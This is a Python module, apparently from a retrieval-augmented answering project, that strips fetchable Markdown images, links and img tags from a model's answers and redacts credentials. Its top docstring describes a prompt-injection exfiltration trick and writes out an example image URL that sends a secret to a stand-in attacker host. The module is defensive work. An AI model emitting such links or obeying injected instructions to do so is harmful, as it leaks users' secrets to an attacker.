"""What a generated answer may carry to the reader: no fetchable image, no live link, no credential.

A model can be told by a document (or by nothing at all) to write
``![x](http://attacker/?d=<secret>)``: a Markdown renderer that shows the
answer would fetch that URL. Images are written as their alt text and links
as plain text with their address in parentheses, so no renderer fetches
anything and a reader still sees where a link pointed. Credentials the model
repeats (the configured keys, ``sk-...``, ``Bearer ...``) are redacted.
"""

from __future__ import annotations

import re

from selfcrag.llm.secrets import redact

# ![alt](url "title") and ![alt][ref]: an image a renderer would fetch.
_IMAGE = re.compile(r"!\[([^\]\n]*)\]\s*(?:\([^)\n]*\)|\[[^\]\n]*\])")
# <img src=...>, in any case, closed or not.
_HTML_IMAGE = re.compile(r"<img\b[^>]*>?", re.IGNORECASE)
# [text](url "title"): a link; kept as text with its address.
_LINK = re.compile(r"\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+[\"'][^)\n]*[\"'])?\s*\)")
# [ref]: url, a reference definition that would give [text][ref] or ![alt][ref] its target.
_REFERENCE = re.compile(r"^\s{0,3}\[[^\]\n]+\]:\s*\S+.*$", re.MULTILINE)


def plain_links(text: str) -> str:
    """Write the Markdown images and links of a generated answer as plain text.

    Args:
        text: The answer.

    Returns:
        The answer with ``![alt](url)`` as ``(image: alt)``, ``[text](url)`` as
        ``text (url)``, ``<img>`` tags and reference definitions removed.
    """
    text = _IMAGE.sub(lambda m: f"(image: {m.group(1).strip()})" if m.group(1).strip() else "(image)", text)
    text = _HTML_IMAGE.sub("(image)", text)
    text = _LINK.sub(lambda m: f"{m.group(1)} ({m.group(2)})" if m.group(2) else m.group(1), text)
    return _REFERENCE.sub("", text)


def checked_answer(text: str) -> str:
    """Make a generated answer safe to show and to store: plain links, no credentials.

    Args:
        text: The model's answer, without reasoning.

    Returns:
        The answer to use.
    """
    return redact(plain_links(text))
